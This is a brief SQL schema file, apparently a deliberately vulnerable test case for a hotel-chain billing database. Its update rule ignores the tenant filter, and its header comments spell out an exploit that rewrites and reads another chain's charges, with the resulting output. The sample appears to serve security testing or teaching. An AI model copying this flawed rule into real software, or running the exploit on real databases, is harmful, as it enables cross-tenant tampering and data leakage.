-- The rule behind the view writes by number of the charge only, so a change goes to the charges of all
-- chains.
-- about: charges_change, charge_list
-- as: hf_hotels_app
-- exploit: SET hotels.chain = 'cccccccc-0000-4000-8000-000000000001';
-- exploit: UPDATE api.charge_list SET amount = 0.01 WHERE charge_no = 1 RETURNING 'changed ' || what AS
-- exploit: result;
-- shows: changed Road-secret champagne
-- The list joins two tables, so it needs a rule to be written through.
CREATE VIEW api.charge_list WITH (security_barrier = true) AS
  SELECT c.charge_no, c.amount, c.what, g.full_name
    FROM data.charges c JOIN data.guests g USING (chain_id, guest_no)
   WHERE c.chain_id = api.chain();
CREATE RULE charges_change AS ON UPDATE TO api.charge_list DO INSTEAD
  UPDATE data.charges SET amount = NEW.amount
   WHERE charges.charge_no = OLD.charge_no
  RETURNING charges.charge_no, charges.amount, charges.what, ''::text;
GRANT SELECT, UPDATE ON api.charge_list TO hf_hotels_app;
